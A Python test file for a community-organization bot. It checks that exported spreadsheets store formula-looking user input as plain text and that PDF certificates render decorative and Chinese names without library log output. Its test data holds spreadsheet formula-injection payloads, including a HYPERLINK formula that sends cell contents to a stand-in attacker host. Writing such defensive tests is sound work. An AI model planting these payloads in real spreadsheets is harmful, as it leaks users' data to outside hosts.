"""Files the bot makes keep what people typed as they typed it, and say nothing of it in the log:
a spreadsheet keeps a name that looks like a formula as text; a certificate shows a name in
decorative letters or in Chinese, and neither fpdf2 nor fontTools writes to the log."""

from __future__ import annotations

import io
import logging
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select

from bot.documents.workbook import Sheet, workbook
from bot.organizations.models import Organization, OrganizationKind, VerificationStatus
from bot.people.models import User
from bot.projects.models import Project
from bot.trainings.models import Enrollment, EnrollmentState, TrainingSession
from tests.flows import consented

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Ver")'
IMPORTXML = '=IMPORTXML("http://evil.example","//a")'


def test_the_one_writer_keeps_typed_text_as_text_and_numbers_and_dates_as_they_are():
    typed = [HYPERLINK, "+51 987 654 321", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "#N/A", "Av. Perú 123"]
    rows = [[text, 7, 2.5, date(2026, 11, 23), datetime(2026, 11, 23, 10, 30)] for text in typed]
    book = load_workbook(io.BytesIO(workbook([Sheet("Datos", ["Texto", "N", "X", "Día", "Hora"], rows)], zone=ZoneInfo("America/Lima"))))
    cells = list(book["Datos"].iter_rows(min_row=2))
    # Exactly as typed, no apostrophe added (XML itself reads a carriage return as a line feed).
    assert [row[0].value for row in cells] == [text.replace("\r", "\n") for text in typed]
    assert {row[0].data_type for row in cells} == {"s"}
    assert [row[0].quotePrefix for row in cells] == [True] * 6 + [False] * 2
    assert [(row[1].value, row[2].value, row[3].value, row[4].value) for row in cells[:1]] == [
        (7, 2.5, datetime(2026, 11, 23), datetime(2026, 11, 23, 10, 30))]
    assert [row[1].data_type for row in cells] == ["n"] * len(typed) and cells[0][3].is_date and cells[0][4].is_date
    # Neither a bell character in a name nor a title with characters Excel refuses fails the file.
    odd = load_workbook(io.BytesIO(workbook([Sheet("Informe: 2026/11", ["T"], [["Ana\x07 Ruiz"]])], zone=ZoneInfo("UTC"))))
    assert odd["Informe 202611"]["A2"].value == "Ana Ruiz"


async def test_staff_export_an_organization_and_a_project_named_like_formulas_as_text(bot, staff):
    now = bot.clock.now()
    async with await bot.session() as session:
        organization = Organization(
            name=HYPERLINK, kind=OrganizationKind.OSB, district_ubigeo="070101", address="@Av. Sáenz Peña 1",
            founded_year=2020, contact_phone="+51987654321", board_term_start=date(2025, 1, 1),
            board_term_end=date(2027, 1, 1), status=VerificationStatus.VERIFIED, created_at=now, updated_at=now,
        )
        session.add(organization)
        await session.flush()
        session.add(Project(organization_id=organization.id, title=IMPORTXML, starts_on=date(2026, 1, 1),
                            ends_on=date(2026, 12, 31), created_at=now))
    await consented(staff)
    await staff.sends("/export")
    book = load_workbook(io.BytesIO(staff.documents[-1].content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    typed = {HYPERLINK: [], IMPORTXML: [], "@Av. Sáenz Peña 1": [], "+51987654321": []}
    for cell in cells:
        if cell.value in typed:
            typed[cell.value].append(cell.data_type)
    assert all(types and set(types) == {"s"} for types in typed.values()), typed
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]      # no formula anywhere in the file
    assert any(isinstance(cell.value, datetime) for cell in cells)                # dates are still dates


async def test_a_certificate_shows_a_decorative_or_chinese_name_and_the_pdf_libraries_stay_out_of_the_log(bot, caplog):
    caplog.set_level(logging.INFO)                                     # LOG_LEVEL's default
    maria = bot.user(first_name="𝓜𝓪𝓻í𝓪", last_name="王芳", language_code="es")
    await consented(maria)
    now = bot.clock.now()
    async with await bot.session() as session:
        user_id = await session.scalar(select(User.id).where(User.telegram_id == maria.id))
        training = TrainingSession(topic="leadership", title="Liderazgo 𝐜𝐨𝐦𝐮𝐧𝐢𝐭𝐚𝐫𝐢𝐨 🌱", starts_at=now - timedelta(days=2),
                                   ends_at=now - timedelta(days=2, hours=-2), venue="Local comunal", capacity=20, created_at=now)
        session.add(training)
        await session.flush()
        session.add(Enrollment(session_id=training.id, user_id=user_id, state=EnrollmentState.ATTENDED, created_at=now,
                               attended_at=now - timedelta(days=2)))
    await maria.taps_data(f"tr:cert:{training.id}")
    text = PdfReader(io.BytesIO(maria.documents[-1].content)).pages[0].extract_text()
    assert "María WangFang" in text and "Liderazgo comunitario" in text
    libraries = [f"{r.levelname} {r.name}" for r in caplog.records if r.name.split(".")[0] in ("fpdf", "fontTools")]
    assert libraries == []
    assert "王" not in caplog.text and "𝓜" not in caplog.text
